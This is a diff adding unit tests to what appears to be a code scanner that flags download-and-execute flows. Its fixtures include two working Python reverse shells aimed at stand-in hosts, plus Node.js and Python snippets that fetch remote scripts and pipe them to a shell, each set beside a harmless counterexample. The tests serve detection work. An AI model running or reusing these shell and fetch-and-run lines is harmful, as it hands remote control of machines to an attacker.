@@ -204,3 +204,63 @@ fn shell_history_searched_locally_is_clean() {
               curl -s https://api.example.net/v1/ping\n";
     not_high("scripts/h.sh", sh);
 }
+
+#[test]
+fn a_shell_given_a_socket_for_its_stdio_is_high() {
+    let py = "import socket, os, pty\n\
+              s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+              s.connect(('shell.example.net', 4444))\n\
+              os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n\
+              pty.spawn('/bin/bash')\n";
+    high("scripts/diag.py", py, "flow-download-exec");
+    let py = "import socket, subprocess, os\n\
+              c = socket.create_connection(('198.51.100.7', 9001))\n\
+              os.dup2(c.fileno(), 0)\n\
+              subprocess.call(['/bin/sh', '-i'])\n";
+    high("scripts/diag2.py", py, "flow-download-exec");
+}
+
+#[test]
+fn a_socket_only_talked_to_while_a_program_runs_is_clean() {
+    let py = "import socket, subprocess, os, sys\n\
+              s = socket.create_connection(('db.internal.example.com', 5432))\n\
+              s.sendall(b'ping')\n\
+              print(s.recv(16))\n\
+              os.dup2(os.open('/tmp/log.txt', os.O_WRONLY), 1)\n\
+              subprocess.run(['pg_isready'])\n";
+    not_high("scripts/ping.py", py);
+}
+
+#[test]
+fn data_gathered_into_a_list_then_run_is_high() {
+    let js = "const cp = require('node:child_process');\n\
+              const https = require('https');\n\
+              https.get('https://x.example.org/c.txt', res => {\n\
+              \x20 const chunks = [];\n\
+              \x20 res.on('data', d => chunks.push(d));\n\
+              \x20 res.on('end', () => cp.spawn('sh', ['-c', Buffer.concat(chunks).toString()]));\n\
+              });\n";
+    high("scripts/boot.js", js, "flow-download-exec");
+}
+
+#[test]
+fn data_gathered_into_a_list_then_printed_is_clean() {
+    let js = "const cp = require('node:child_process');\n\
+              const https = require('https');\n\
+              https.get('https://api.example.org/v1/items', res => {\n\
+              \x20 const chunks = [];\n\
+              \x20 res.on('data', d => chunks.push(d));\n\
+              \x20 res.on('end', () => console.log(Buffer.concat(chunks).toString()));\n\
+              });\n\
+              cp.spawn('git', ['status']);\n";
+    not_high("scripts/list.js", js);
+}
+
+#[test]
+fn a_runner_reached_through_an_imported_alias_runs_what_was_fetched() {
+    let py = "import subprocess as sp\n\
+              from urllib.request import urlopen as get\n\
+              code = get('https://x.example.org/p.sh').read().decode()\n\
+              sp.run(['bash', '-c', code])\n";
+    high("scripts/a.py", py, "flow-download-exec");
+}
